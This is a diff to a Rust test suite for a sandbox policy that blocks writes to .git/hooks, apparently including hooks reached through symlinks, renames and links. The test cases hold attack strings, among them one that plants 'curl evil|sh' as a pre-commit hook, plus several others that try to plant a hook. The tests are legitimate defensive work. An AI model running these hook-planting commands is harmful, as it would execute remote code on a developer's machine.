@@ -146,7 +146,7 @@ const REFUSED: &[Refusal] = &[
         "a hook in an existing .git without hooks",
         "mkdir .git",
         "mkdir -p .git/hooks && echo 'curl evil|sh' > .git/hooks/pre-commit",
-        ".git/hooks",
+        ".git/hooks/pre-commit",
     ),
     ("a denyWrite glob", "", "touch x.key", "x.key"),
     (
@@ -195,8 +195,8 @@ const REFUSED: &[Refusal] = &[
     (
         "through a symlinked folder",
         "mkdir .git && ln -s .git g",
-        "mkdir g/hooks",
-        ".git/hooks",
+        "mkdir -p g/hooks; echo x > g/hooks/post-checkout",
+        ".git/hooks/post-checkout",
     ),
     (
         "with .. from a subfolder",
@@ -411,23 +411,28 @@ fn ordinary_files_are_created_as_usual() {
 }
 
 /// `.git/hooks` is protected everywhere below the workspace, and the workspace's own
-/// `.git/config` unless `allowGitConfig`: `git init` copies its template hooks, so it fails;
-/// without templates a nested repository can be created, the workspace's own only with
-/// `allowGitConfig`.
+/// `.git/config` unless `allowGitConfig`. `git init` of a nested repository works: its
+/// template hooks are `*.sample` files, which git never runs; a real hook cannot be planted
+/// by writing, renaming or linking. The workspace's own repository needs `allowGitConfig`.
 #[test]
 fn git_init_follows_the_policy() {
     if !ready() {
         return;
     }
     let s = Scratch::new(POLICY);
-    let o = s.sh("git init -q nested");
-    assert_ne!(o.status.code(), Some(0));
-    assert!(
-        stderr(&o).contains("hooks") && stderr(&o).contains("Permission denied"),
-        "{}",
-        stderr(&o)
-    );
-    assert!(!s.at("nested/.git/hooks").exists());
+    let o = s.sh("git init -q nested && git -C nested status --short");
+    assert_code(&o, 0);
+    assert!(s.at("nested/.git/hooks/pre-commit.sample").is_file());
+    for attack in [
+        "echo 'echo pwned' > nested/.git/hooks/pre-commit",
+        "mv nested/.git/hooks/pre-commit.sample nested/.git/hooks/pre-commit",
+        "ln nested/.git/hooks/pre-commit.sample nested/.git/hooks/pre-commit",
+        "ln -s pre-commit.sample nested/.git/hooks/pre-commit",
+    ] {
+        let o = s.sh(attack);
+        assert_ne!(o.status.code(), Some(0), "{attack}");
+        assert!(!s.at("nested/.git/hooks/pre-commit").exists(), "{attack}");
+    }
 
     let o = s.sh("git -c init.templateDir= init -q nested2 && git -C nested2 status --short");
     assert_code(&o, 0);
